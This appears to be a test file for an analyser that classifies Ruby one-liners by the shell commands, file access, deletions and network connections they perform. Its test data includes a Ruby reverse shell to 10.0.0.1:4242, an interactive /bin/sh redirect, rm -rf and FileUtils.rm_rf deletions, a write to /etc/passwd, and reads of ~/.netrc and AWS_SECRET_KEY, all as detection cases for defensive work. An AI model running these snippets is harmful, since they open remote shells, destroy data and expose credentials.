import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands filters and code that only computes', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['puts 1', 'ok'],
    ['gsub(/a/, "b")', 'ok'],
    ['puts [1, 2, 3].map { |x| x * 2 }.inspect', 'ok'],
    ["require 'json'; puts JSON.parse(STDIN.read)['version']", 'ok'],
    ['puts RUBY_VERSION', 'ok'],
    ['print $_ if /foo/', 'ok'],
    ['puts $<.read.split("\\n").sort', 'ok'],
    ['def f(x); x + 1; end; puts f(2)', 'ok'],
    ['ARGF.each_line { |l| puts l.upcase }', 'ok'],
    ['puts %w[a b].map(&:upcase).join(",")', 'ok'],
    ['x = 5\nputs "a#{x + 1}"', 'ok'],
    ['puts (1..3).reduce(:+)', 'ok'],
    ["require 'time'; puts Time.now.iso8601", 'ok'],
    ['puts ENV["HOME"]', 'ok'],
    ['h = { a: 1, "b" => 2 }; puts h[:a]', 'ok'],
    ['%w[a b].each_with_index do |v, i| puts "#{i} #{v}" end', 'ok'],
    ['puts File.basename("/a/b.rb")', 'ok'],
    ['puts "a".nil? ? 1 : 2', 'ok'],
    ['eval("puts 1")', 'ok'],
    ['puts Gem::VERSION', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('ruby', code), expected, code);
});

test('notes what is run, read, written and fetched', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['`rm -rf /home/user`', 'ok shell=rm -rf /home/user'],
    ['exec "/bin/sh"', 'ok shell=/bin/sh'],
    ['system("ls", "-l", "a b")', "ok shell=ls -l 'a b'"],
    ['%x(ls)', 'ok shell=ls'],
    ['puts "a#{`id`}"', 'ok shell=id'],
    ['Kernel.exec("id")', 'ok shell=id'],
    ['IO.popen("id").read', 'ok shell=id'],
    ['open("|id").read', 'ok shell=id'],
    ['File.open("/path/x", "w") { |f| f.write("DATA") }', 'ok write=/path/x'],
    ['puts File.read("x.txt")', 'ok read=x.txt'],
    ['File.delete("a", "b")', 'ok delete=a delete=b'],
    ["require 'fileutils'; FileUtils.rm_rf('/home/user')", 'ok delete-tree=/home/user'],
    ['FileUtils.mv "a", "b"', 'ok delete=a write=b'],
    ['File.write("a", "b")', 'ok write=a'],
    ['IO.write("a", "b")', 'ok write=a'],
    ['Dir.glob("*").each { |f| File.delete(f) }', 'ok delete=?'],
    ['puts `id`.strip.upcase', 'ok shell=id'],
    [
      'c=TCPSocket.new("10.0.0.1","4242");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
      'no connect=10.0.0.1 shell=?',
    ],
    ['puts ENV["AWS_SECRET_KEY"]', 'ok secret=AWS_SECRET_KEY'],
    ['exec sprintf("/bin/sh -i <&%d", f)', 'no shell=?'],
    ['x = "ls"\n  .concat("; rm")\nsystem(x)', 'ok shell=?'],
    ['x = "l" +\n"s"\nsystem x', 'ok shell=ls'],
    ['load "x.rb"', 'ok script=x.rb'],
    ['require_relative "y"', 'ok script=y'],
    ['File.read(File.expand_path("a"))', 'ok read=a'],
    ['File.write(File.expand_path("passwd", "/etc"), "x")', 'ok write=?'],
    ['system("id") { }', 'ok shell=id'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('ruby', code), expected, code);
});

test('does not understand what leads out of plain data', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['send(:system, "ls")', 'no'],
    ['Kernel.send(:exec, "id")', 'no'],
    ['["ls"].each(&method(:system))', 'no'],
    ['["ls"].each(&:system)', 'no'],
    ['eval gets', 'no opaque=?'],
    ['Object.const_get("Kernel")', 'no opaque=?'],
    ['exit if fork', 'no'],
    ['require "mylib"', 'no'],
    ['puts <<~X\n#{`id`}\nX', 'no'],
    ['foo /1; system("x"); /', 'no'],
    ['instance_eval("1")', 'ok'],
    ['binding.eval("1")', 'no'],
    ['$:.unshift "."; require "json"', 'no'],
    ['ENV["PATH"] = "x"', 'no'],
    [':a.to_proc.call("x")', 'no'],
    ['x.frobnicate', 'no'],
    ['Pathname.new("x").delete', 'no delete=?'],
    ['Thread.new { system "id" }.join', 'no shell=id'],
    ['puts ENV.to_h', 'no'],
    ['ENV.each { |k, v| puts v }', 'no'],
    ['File.read(File.expand_path("~/.netrc"))', 'no read=~/.netrc'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('ruby', code), expected, code);
});
